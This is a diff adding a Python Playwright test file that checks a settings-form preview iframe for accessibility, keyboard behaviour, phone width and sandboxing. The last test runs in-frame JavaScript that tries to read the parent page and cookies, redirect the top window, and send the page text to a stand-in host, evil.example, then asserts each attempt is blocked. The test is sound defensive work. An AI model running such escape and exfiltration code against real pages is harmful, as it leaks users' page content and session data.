@@ -1,0 +1,148 @@
+"""The preview of the settings form in Chromium: by keyboard, on a phone, in each language, and apart from the form."""
+
+import json
+import shutil
+from urllib.parse import urlsplit
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import expect
+from previewed import MARKUP, build_previewed
+
+STORED = {"bar": {"text": "Stored", "steps": [{"gift": "Mug"}]}}
+TEXT = "/bar/text"
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory):
+    return build_previewed(tmp_path_factory.mktemp("previewed"))
+
+
+@pytest.fixture
+def open_form(world, opened, built, browser):
+    """`open_form(language)` opens the settings page; its requests reach the server without a socket."""
+    shutil.rmtree(world.dist)
+    shutil.copytree(built, world.dist)
+    context = browser.new_context(locale="en-GB")
+
+    def open_in(language="en", scripts=True):
+        visitor, url, code = opened(language=language)
+        world.service.set_data(code, json.dumps(STORED))
+        page = context.new_page()
+
+        def answer(route):
+            address, request = urlsplit(route.request.url), route.request
+            names = ("content-type", "origin")
+            headers = {name.replace("-", "_"): request.headers.get(name, "") for name in names}
+            seen = visitor.send(
+                request.method, f"{address.path}?{address.query}", request.post_data_buffer or b"", headers
+            )
+            if seen.status == 303:
+                seen = visitor.follow(seen)
+            sent = {**dict(seen.headers)}
+            if not scripts and request.frame == page.main_frame:
+                sent["content-security-policy"] = f"{sent.get('content-security-policy')}; script-src 'none'"
+            route.fulfill(status=seen.status, headers=sent, body=seen.text)
+
+        page.route("https://app.example/**", answer)
+        page.goto(f"https://app.example{url}")
+        return page
+
+    yield open_in
+    context.close()
+
+
+def shown(page):
+    """Return what the frame shows; the one that comes while a new one is loaded."""
+    return page.frame_locator(".preview iframe >> nth=-1").locator("main")
+
+
+def violations(page):
+    found = Axe().run(page, options={"resultTypes": ["violations"]}).response["violations"]
+    return [f"{one['id']}: {[node['html'][:160] for node in one['nodes']]}" for one in found]
+
+
+@pytest.mark.parametrize(
+    ("language", "title"), [("en", "Preview"), ("de", "Vorschau"), ("lv", "Priekšskatījums")]
+)
+def test_preview_has_no_violation_and_fits_a_phone_in_each_language(open_form, language, title):
+    page = open_form(language)
+    expect(shown(page)).to_contain_text("Stored / 75")
+    expect(page.get_by_role("heading", name=title)).to_be_visible()
+    for width in (1280, 390):
+        page.set_viewport_size({"width": width, "height": 800})
+        assert violations(page) == []
+        assert page.evaluate("document.documentElement.scrollWidth") <= width
+
+
+def test_preview_follows_the_entries_by_keyboard_and_leaves_the_focus(open_form, world):
+    page = open_form()
+    page.set_viewport_size({"width": 1280, "height": 800})
+    world.calls.clear()
+    text = page.locator(f"[name='{TEXT}']")
+    text.focus()
+    page.keyboard.press("End")
+    page.keyboard.type(" and typed")
+    expect(shown(page)).to_contain_text("Stored and typed / 75")
+    expect(text).to_be_focused()
+    assert page.evaluate("history.length") <= 2, "previews are no steps back"
+    state = page.get_by_label("Situation")
+    for _ in range(30):
+        page.keyboard.press("Tab")
+        if state.evaluate("it => it === document.activeElement"):
+            break
+    page.keyboard.press("ArrowDown")
+    expect(shown(page)).to_contain_text("Hello en")
+    page.locator("[name='/bar/least']").fill("0")
+    expect(shown(page)).to_contain_text("From: Enter 1 or more.")
+    assert world.calls == []
+
+
+def test_width_of_the_frame_is_chosen_by_the_style_sheet_alone(open_form):
+    page = open_form(scripts=False)
+    frame = page.locator("iframe")
+    assert frame.evaluate("it => it.clientWidth") == 1280
+    page.get_by_label("Phone").check()
+    assert frame.evaluate("it => it.clientWidth") == 390
+    page.locator(f"[name='{TEXT}']").fill("Without the page's script")
+    page.get_by_role("button", name="Show preview").click()
+    expect(shown(page)).to_contain_text("Without the page's script / 75")
+
+
+def test_hostile_data_reaches_neither_the_form_nor_the_session_nor_the_network(open_form):
+    page = open_form()
+    address, asked = page.url, []
+    page.on("request", lambda request: asked.append(request.url))
+    page.locator(f"[name='{TEXT}']").fill(MARKUP)
+    expect(shown(page)).to_contain_text(MARKUP)
+    frame = shown(page).element_handle().owner_frame()
+    refused = """async () => {
+      const attempts = {
+        form: () => parent.document.title,
+        cookie: () => document.cookie,
+        top: () => { top.location = "https://evil.example/"; },
+        fetch: () => fetch("https://app.example/style.css").then((response) => response.text()),
+      };
+      const got = {};
+      for (const [name, attempt] of Object.entries(attempts)) {
+        try { got[name] = (await attempt()) ?? ""; } catch { got[name] = null; }
+      }
+      return { ...got, origin: self.origin };
+    }"""
+    assert frame.evaluate(refused) == {
+        "form": None,
+        "cookie": "",
+        "top": None,
+        "fetch": None,
+        "origin": "null",
+    }
+    frame.evaluate("() => void (location = 'https://evil.example/?' + document.body.innerText)")
+    page.wait_for_function("document.readyState === 'complete'")
+    assert (page.url, "hit" in page.title()) == (address, False)
+    assert [url for url in asked if "evil.example" in url or url.endswith("/x")] == []
+
+
+def test_link_in_the_frame_does_not_lead_away(open_form):
+    page = open_form()
+    shown(page).get_by_role("link", name="else").click()
+    expect(shown(page)).to_contain_text("Stored / 75")
